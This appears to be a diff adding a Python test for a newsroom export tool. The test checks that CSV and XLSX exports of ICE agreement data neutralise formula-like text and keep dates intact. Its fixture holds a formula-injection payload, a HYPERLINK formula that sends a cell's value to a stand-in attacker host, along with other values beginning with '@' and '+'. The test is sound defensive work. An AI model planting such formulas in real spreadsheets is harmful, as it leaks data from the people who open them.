@@ -1,0 +1,58 @@
+"""Exports open in a newsroom's spreadsheet: text from ICE's sheet can never run there as a formula."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import openpyxl
+
+from storage.export import COLUMNS, current_rows, write
+from tests.test_store import apply
+from tests.workbooks import HEADER
+
+HOSTILE = {"LAW ENFORCEMENT AGENCY": '=HYPERLINK("https://evil.example/?"&A1,"Ocala Police Department")',
+           "TYPE": "@SUM(1+1)", "COUNTY": "+1-2 County"}
+
+
+def text_workbook() -> bytes:
+    """A sheet whose cells hold text starting with `=`, `+`, `@`, typed as text (not as formulas)."""
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(HEADER)
+    values = {"STATE": "FLORIDA", "SUPPORT TYPE": "Task Force Model", "SIGNED": dt.datetime(2025, 4, 24),
+              "MOA": "link pending", **HOSTILE}
+    sheet.append([values.get(name) for name in HEADER])
+    sheet.append(["FLORIDA", "Marion County Sheriff's Office", "County", "Marion County", "Jail Enforcement Model",
+                  dt.datetime(2025, 2, 20), "link pending"])
+    for name in HOSTILE:
+        sheet.cell(row=2, column=HEADER.index(name) + 1).data_type = "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+def test_csv_and_xlsx_exports_quote_formula_text_and_keep_dates_and_flags(tmp_path):
+    from storage.db import connect
+
+    sessions = connect(f"sqlite:///{tmp_path / 'store.db'}")
+    apply(sessions, tmp_path, text_workbook(), 0)
+    with sessions() as session:
+        rows = sorted(current_rows(session), key=lambda r: r["agency"])
+    assert rows[0]["agency"] == HOSTILE["LAW ENFORCEMENT AGENCY"]  # stored as ICE wrote it
+
+    write(rows, "csv", tmp_path / "a.csv")
+    exported = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8")))
+    assert exported[0]["agency"] == "'" + HOSTILE["LAW ENFORCEMENT AGENCY"]
+    assert exported[0]["agency_type"] == "'@SUM(1+1)" and exported[0]["county"] == "'+1-2 County"
+    assert exported[0]["signed"] == "2025-04-24" and exported[0]["was_pending"] == "false"
+    assert exported[1]["agency"] == "Marion County Sheriff's Office"
+
+    write(rows, "xlsx", tmp_path / "a.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
+    cells = {name: sheet.cell(row=2, column=COLUMNS.index(name) + 1) for name in ("agency", "signed", "county")}
+    assert cells["agency"].data_type == "s" and cells["agency"].value == "'" + HOSTILE["LAW ENFORCEMENT AGENCY"]
+    assert cells["county"].value == "'+1-2 County"
+    assert cells["signed"].value == "2025-04-24"
+    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
